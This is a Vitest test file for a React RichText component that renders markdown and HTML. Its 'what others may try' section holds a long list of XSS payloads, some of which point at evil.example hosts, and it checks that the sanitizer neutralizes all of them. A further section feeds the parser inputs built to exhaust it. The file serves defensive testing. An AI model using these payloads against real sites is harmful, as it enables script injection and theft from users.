import { fireEvent, render, screen } from "@testing-library/react";
import { StrictMode } from "react";
import { renderToString } from "react-dom/server";
import { beforeAll, describe, expect, test, vi } from "vitest";
import { RichText } from "../../src/ui/RichText.tsx";
import { readMarkdown } from "../../src/ui/rich/markdown.ts";
import { processorTime } from "../support/processor-time.ts";

// What is fetched for lists and HTML is here before the first test: the tests look at the end, not at the way.
beforeAll(() => import("../../src/ui/rich/Blocks.tsx"));

async function draw(text: unknown, props: { inline?: boolean; className?: string } = {}) {
  const error = vi.spyOn(console, "error").mockImplementation(() => {});
  const { container } = render(
    <StrictMode>
      <RichText text={text} {...props} />
    </StrictMode>,
  );
  await vi.waitFor(() => expect(container.querySelector("[data-raw]")).toBeNull());
  const complaints = error.mock.calls.map(String).filter((call) => !call.includes("act("));
  error.mockRestore();
  expect(complaints).toEqual([]); // such as a <p> in a <p>
  return container;
}

/** What is inside the element that each rich text has. */
const html = async (text: unknown) =>
  (await draw(text)).firstElementChild?.innerHTML.replaceAll(/ (?:class|target|rel|translate)="[^"]*"/g, "");

describe("what is shown", () => {
  test.each([
    ["just words, 2 < 3 & so on", "just words, 2 &lt; 3 &amp; so on"],
    ["a `code` and **bold**", "a <code>code</code> and <strong>bold</strong>"],
    ["[docs](https://a.b/c)", '<a href="https://a.b/c">docs</a>'],
    ["one\ntwo", "one<br>two"],
    ["one\n\n  two `x`", "<div><p>one</p><p>two <code>x</code></p></div>"],
    [
      "Values:\n* `0` - Open\n* `1` - Won",
      "<div><p>Values:</p><ul><li><code>0</code> - Open</li><li><code>1</code> - Won</li></ul></div>",
    ],
    [
      "Steps:\n\n3. three\n4. four\n   - deep",
      '<div><p>Steps:</p>\n<ol start="3"><li>three</li><li>four<ul><li>deep</li></ul></li></ol></div>',
    ],
    ["Types:\n        * a\n        * b", "<div><p>Types:</p><ul><li>a</li><li>b</li></ul></div>"],
    ["# Title", "<div><p>Title</p></div>"],
    ["> said `x`", "<div><blockquote><p>said <code>x</code></p></blockquote></div>"],
    ['```json\n{ "a": 1 }\n```', '<div><pre>{ "a": 1 }</pre></div>'],
    [
      "| a | b |\n|---|---|\n| 1 | `2` |",
      "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table></div>",
    ],
    ["a\n\n---\n\nb", "<div><p>a</p>\n<hr>\n<p>b</p></div>"],
    ["- [x] done\n- [ ] open", "<div><ul><li>☑ done</li><li>☐ open</li></ul></div>"],
  ])("%j", async (text, expected) => {
    expect(await html(text)).toBe(expected);
  });

  test.each([
    ["<b>bold</b> and <em>soft</em>", "<div><p><b>bold</b> and <em>soft</em></p></div>"],
    ["a<br/>b<br>c", "<div><p>a<br>b<br>c</p></div>"],
    ["**a <u>b** c</u>", "<div><p><strong>a <u>b</u></strong> c</p></div>"],
    [
      "AT&amp;T &copy; &#233; &#x1F600; &unknown; &constructor;",
      "<div><p>AT&amp;T © é 😀 &amp;unknown; &amp;constructor;</p></div>",
    ],
    [
      '<p>one<p>two <a href="https://a.b">x</a>',
      '<div><p>one</p><p>two <a href="https://a.b/">x</a></p></div>',
    ],
    ["<ul><li>a<li>b</ul>tail", "<div><ul><li>a</li><li>b</li></ul>tail</div>"],
    [
      "<table><tr><td>1<td>2</table>",
      "<div><table><tbody><tr><td>1</td><td>2</td></tr></tbody></table></div>",
    ],
    ["<h2>Title</h2><div>text</div>", "<div><p>Title</p><div>text</div></div>"],
    ["<center><font color=red>x</font></center>", "<div><div>x</div></div>"],
    ["text <div>block</div> after", "<div><p>text </p><div>block</div> after</div>"],
    ["<td>lost</td> <li>item</li>", "<div>lost <ul><li>item</li></ul></div>"],
    [
      "<a href='https://a.b'>x <a href='https://c.d'>y</a></a>",
      '<div><p><a href="https://a.b/">x y</a></p></div>',
    ],
    ["<pre>a\n  b</pre>", "<div><pre>a\n  b</pre></div>"],
    ["x <!-- hidden --> y", "<div><p>x  y</p></div>"],
  ])("%j", async (text, expected) => {
    expect(await html(text)).toBe(expected);
  });

  test.each([
    "https://<your-domain>.example.com",
    "Use <api_key> or <Your-Name>",
    "GET /users/<id>/posts/<object>?code=<code>",
    "mail <someone@example.com>",
    "a <b and c> d",
    "1 <2> 3",
  ])("keeps the placeholder in %j", async (text) => {
    expect((await draw(text)).textContent).toBe(text);
  });

  const documented = [
    "one\ntwo",
    "one\n\ntwo `x`",
    "a [link\n](https://a.b)",
    "Values:\n* `0` - Open\n* `1` - Won\n  - deep",
    "3. three\n4. four\n\n   more",
    "# Title\ntext",
    "Title\n=====\n\ntext",
    "> said\n> more\n\nafter",
    '```json\n{\n  "a": 1\n}\n```\nafter',
    "~~~\ncode\n~~~\n\nafter",
    "| a | b |\n|---|---|\n| 1 | 2 |\n\nafter",
    "a\n\n---\n\nb",
    "a  \nb\\\nc",
    "<ul>\n<li>a</li>\n</ul>\n<pre>x\n y</pre>",
    "Steps:\n        * a\n        * b",
  ];
  test.each(["\r\n", "\r", "\u2028", "\u2029", "\u0085", "\f", "\v"])(
    "draws text with %j line ends as with \\n (H-039)",
    async (end) => {
      for (const text of documented)
        expect(await html(text.replaceAll("\n", end)), text).toBe(await html(text));
    },
  );

  test.each([
    ["\uFEFF# Title\n\uFEFF- a", "# Title\n- a"],
    ["one\n\u00a0\ntwo", "one\n\ntwo"],
    ["-\u00a0a\n-\u00a0b\n\u00a0\u00a0-\u00a0c", "- a\n- b\n  - c"],
    ["1.\u00a0a\n2.\u3000b", "1. a\n2. b"],
    ["##\u00a0Title", "## Title"],
    [">\u00a0-\u00a0x", "> - x"],
    ["-\ta\n\t- b", "- a\n  - b"],
    ["|\ta\t|\u00a0b\u00a0|\n|\t-\t|\u00a0-\u00a0|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"],
    ["a\n\n-\t-\t-\n\nb", "a\n\n---\n\nb"],
    ["```\nx\n```\u00a0\t\nafter", "```\nx\n```\nafter"],
    ["Run:\n\t\t```\n\t\tx\n\t\t```\n\t\tafter", "Run:\n```\nx\n```\nafter"],
  ])("draws %j as with plain spaces (H-039)", async (text, plain) => {
    expect(await html(text)).toBe(await html(plain));
  });

  test("keeps a tab inside a fence, and a no-break space inside a line (H-039)", async () => {
    expect(await html("```\nall:\n\techo\n```")).toBe("<div><pre>all:\n\techo</pre></div>");
    expect((await draw("10\u00a0km or **5**")).textContent).toBe("10\u00a0km or 5");
  });

  test("an image is a link to it, and is never loaded", async () => {
    const container = await draw(
      '![chart](https://a.b/c.png)\n\n<img src="https://t.b/p.gif" alt="dot"> <img src=https://a.b/x.png>',
    );
    expect(container.querySelector("img, picture, source, [src], [srcset]")).toBeNull();
    expect([...container.querySelectorAll("a")].map(({ textContent, href }) => [textContent, href])).toEqual([
      ["chart", "https://a.b/c.png"],
      ["dot", "https://t.b/p.gif"],
      ["Image", "https://a.b/x.png"],
    ]);
  });

  test("a link opens beside the form and gives nothing away", async () => {
    const container = await draw(
      "[a](https://a.b) <a href='https://c.d' rel=opener target=_top onclick=x>c</a>",
    );
    for (const link of container.querySelectorAll("a")) {
      expect(link).toHaveAttribute("rel", "noopener noreferrer");
      expect(link).toHaveAttribute("target", "_blank");
      expect(link.getAttributeNames().toSorted()).toEqual(["class", "href", "rel", "target"]);
    }
    expect(container.querySelectorAll("a")).toHaveLength(2);
  });

  test.each([
    [42, "42"],
    [0, "0"],
    [true, "true"],
  ])("%s, which is no text, is shown as %j", async (text, expected) => {
    expect(await html(text)).toBe(expected);
  });

  test.each([[null], [undefined], [{ a: 1 }], [["x"]], [() => "x"], ["   "]])(
    "nothing is shown for %s",
    async (text) => {
      expect((await draw(text)).innerHTML).toBe("");
    },
  );

  test("inside a line, blocks and HTML are characters", async () => {
    const container = await draw("* a `b`\n* <b>c</b> &amp; [d](https://e.f)", { inline: true });
    expect(container.querySelector("ul, li, b, div, p")).toBeNull();
    expect(container.textContent).toBe("* a b* <b>c</b> &amp; d");
    expect(container.querySelector("code")).toHaveTextContent("b");
  });

  test("has a class where one is asked for", async () => {
    expect((await draw("words", { className: "mine" })).innerHTML).toBe('<div class="mine">words</div>');
    expect((await draw("words", { className: "mine", inline: true })).innerHTML).toBe(
      '<span class="mine">words</span>',
    );
  });

  test("is drawn on a server, as it was written where it would have to be fetched for", async () => {
    vi.resetModules(); // nothing has been fetched yet
    const { RichText: Fresh } = await import("../../src/ui/RichText.tsx");
    expect(renderToString(<Fresh text="a `b`" />)).toContain(">b</code>");
    expect(renderToString(<Fresh text={"a\n* <b>"} />)).toContain("a\n* &lt;b&gt;");
  });

  test("shows no tags while what reads them is fetched", async () => {
    vi.resetModules();
    const { RichText: Fresh } = await import("../../src/ui/RichText.tsx");
    const drawn = renderToString(
      <Fresh text={'<p class="x">Go to <B>Settings</B>, <br/>then <your-domain> & <key>.'} />,
    );
    expect(drawn).toContain("Go to Settings, then &lt;your-domain&gt; &amp; &lt;key&gt;.");
  });
});

const allowed = new Set(
  "A B I STRONG EM U S DEL INS MARK SMALL SUB SUP CODE KBD SAMP VAR Q CITE ABBR BR HR P DIV PRE BLOCKQUOTE UL OL LI DL DT DD TABLE THEAD TBODY TR TH TD SPAN BUTTON".split(
    " ",
  ),
);

describe("what others may try", () => {
  const script = "alert(1)";
  test.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' />",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='https://a.b/x.png' onload=alert(1) srcset='https://evil.example/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,x'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input name=nodeName><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea onfocus=alert(1)></textarea><keygen onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>x</body><html onclick=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0' class=ps-button id=host-shell name=nodeName>x</p>",
    "<style>*{background:url(https://evil.example)}</style>x",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A;&#x61;vascript:alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://a.b/1-2'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://a.b' ping='https://evil.example' onclick='alert(1)' style='x'>x</a>",
    "<a href='https://a.b' href='javascript:alert(1)'>x</a>",
    '<a href="https://a.b"onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    String.raw`[x](javascript\:alert(1))`,
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [x](blob:x) [x](file:///etc/passwd)",
    '[x](https://a.b " onclick=alert(1) ")',
    '[x](https://a.b" onclick="alert(1))',
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "[x](https://a.b/<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](https://a.b/x.png)',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
    "> <img src=x onerror=alert(1)>\n> - <svg/onload=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
    "</p></div></form><script>alert(1)</script>",
    "<p><table><td><form><script>alert(1)</script>",
    "<__proto__ onclick=alert(1)>x</__proto__><constructor>y</constructor><toString>z</toString>",
    "<a __proto__=x constructor=y href='https://a.b'>x</a>",
    // What becomes something else when it is parsed a second time.
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><title><style><img src=x onerror=alert(1)></style></title></desc></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style><option></style><img src=x onerror=alert(1)></select>",
    "<table><caption><svg><title><table><caption></title><img src=x onerror=alert(1)>",
    "<div shadowrootmode=open><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    // What moves, opens, edits or names itself.
    "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>' /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>y</div>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x slot=x is=x-y part=z>x</p>",
    "<a id=document name=cookie href='https://a.b' download=x target=_self rel=opener>x</a><form name=location>y</form>",
    "<dialog open oncancel=alert(1)>x</dialog><portal src='javascript:alert(1)'></portal>",
    "<style>@import 'https://evil.example/x.css';</style><p style='width: expression(alert(1))'>x</p>",
    "<img src=x:x onerror\u0000=alert(1)><b\u0000 onclick=alert(1)>x</b>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='\u202Ejavascript:alert(1)'>x</a> <a href='javascript\u200B:alert(1)'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a> <a href='https://a.b@evil.example:80/'>x</a>",
    "[x](https://a.b){onclick=alert(1)} [y][z]\n\n[z]: <javascript:alert(1)> 'title'",
    "[a](javascript&#x3A;alert(1)) [b](&#106;avascript:alert(1)) [c](%6Aavascript:alert(1))",
    '![x][y]\n\n[y]: data:image/svg+xml;base64,PHN2Zz4= "x"',
  ])("%j does no harm", async (text) => {
    const alerted = vi.fn();
    vi.stubGlobal("alert", alerted);
    for (const around of [text, `Words **before** it.\n\n${text}\n\n- and after`]) {
      const container = await draw(around);
      for (const element of container.querySelectorAll("*")) {
        expect(allowed).toContain(element.tagName);
        for (const { name, value } of element.attributes) {
          expect(["class", "href", "rel", "target", "start", "translate"]).toContain(name);
          if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
          if (name === "class") expect(value).toMatch(/^ps-[a-z-]+$/);
        }
      }
      for (const element of container.querySelectorAll<HTMLElement>("a, b, p, div")) fireEvent.click(element);
    }
    expect(alerted).not.toHaveBeenCalled();
    expect(script in window).toBe(false);
    vi.unstubAllGlobals();
  });

  test("what is dropped takes along what it holds, and no more", async () => {
    expect((await draw("a <script>x</script> b <style>y</style> c <svg><b>z</b></svg> d")).textContent).toBe(
      "a  b  c  d",
    );
    expect((await draw("a <svg> b\n\nc")).textContent).toMatch(/a\s+b\s+c/);
  });
});

describe("what is too much", () => {
  const many = 10_000;
  const megabyte = 1_000_000;
  const monsters: [string, string][] = [
    ["quotes in quotes", ">".repeat(many)],
    ["spaced quotes in quotes", "> ".repeat(many)],
    ["lists in lists", `${"- ".repeat(many)}x`],
    ["lists and quotes in turns", `${"> - 1. ".repeat(many)}x`],
    ["brackets", "[".repeat(many)],
    ["brackets with text", "[a".repeat(many)],
    ["images", "![".repeat(many)],
    ["parentheses after a link", `[a](${"(".repeat(many)}`],
    ["half links", "[a](b".repeat(many)],
    ["spaces in a link", `[a](${" ".repeat(many)}`],
    ["stars", "*".repeat(megabyte)],
    ["stars between letters", "*a".repeat(many)],
    ["stars and underscores", "*_".repeat(many)],
    ["double stars", "**a ".repeat(many)],
    ["backticks of all lengths", Array.from({ length: 200 }, (_, index) => "`".repeat(index + 1)).join(" ")],
    ["open tags", "<b>".repeat(many)],
    ["nested blocks", "<div>".repeat(many)],
    ["half tags", "<".repeat(many)],
    ["half tags with quotes", '<a "'.repeat(many)],
    ["half comments", "<!--".repeat(many)],
    ["nested tables", "<table><tr><td>".repeat(many)],
    ["nested lists", "<ul><li>".repeat(many)],
    ["entities", "&amp;".repeat(many)],
    ["half entities", "&a".repeat(many)],
    ["backslashes", "\\".repeat(many)],
    ["tildes and fences", "~~~\n```\n".repeat(2000)],
    ["table rows", `|a|b|\n|-|-|\n${"|x".repeat(many)}`],
    ["table dashes", `|${"-|".repeat(many)}`],
    ["rules", "* ".repeat(many)],
    ["addresses", "https://".repeat(many)],
    ["an address of parentheses", `https://a.b/${")".repeat(many)}`],
    ["blank lines", `a${" \n".repeat(many)}b`],
    ["a megabyte of words", "word ".repeat(megabyte / 5)],
    ["a megabyte of list", "- item\n".repeat(megabyte / 7)],
  ];

  // A few hundredths of a second on any machine of today; ten times as much is still no freeze.
  const bound = 500;

  test.each(monsters)("%s are read in time when they are cut, and when they are not", async (_, text) => {
    let container!: HTMLElement;
    const drawn = await processorTime(async () => (container = await draw(text)));
    expect(drawn).toBeLessThan(4 * bound); // jsdom, and reading what is fetched, take their part
    expect(container.textContent.length).toBeLessThan(2000);
    expect(await processorTime(() => readMarkdown(text.slice(0, 20_000)))).toBeLessThan(bound);
  });

  test("elements are no deeper than a page can take", async () => {
    const { container } = render(<RichText text={`${"<div>".repeat(150)}x <b>y</b>`} />);
    await vi.waitFor(() => expect(container.textContent).toContain("x"));
    let depth = 0;
    for (let at = container.querySelector("*"); at; at = at.firstElementChild) depth++;
    expect(depth).toBeLessThan(40);
  });

  test("a long description is shown in part, and more of it when asked for", async () => {
    const text = Array.from({ length: 9000 }, (_, index) => `word${index}`).join(" ");
    const { container } = render(<RichText text={text} />);
    expect(container.textContent).toContain("word100 ");
    expect(container.textContent).not.toContain("word1000 ");
    fireEvent.click(screen.getByRole("button", { name: "Show more" }));
    expect(container.textContent).toContain("word1000 ");
    for (let left = 9; left > 0 && screen.queryByRole("button", { name: "Show more" }); left--) {
      fireEvent.click(screen.getByRole("button", { name: "Show more" }));
    }
    expect(container.textContent).toContain("word8999");
    fireEvent.click(screen.getByRole("button", { name: "Show less" }));
    expect(container.textContent.length).toBeLessThan(1300);
  });
});
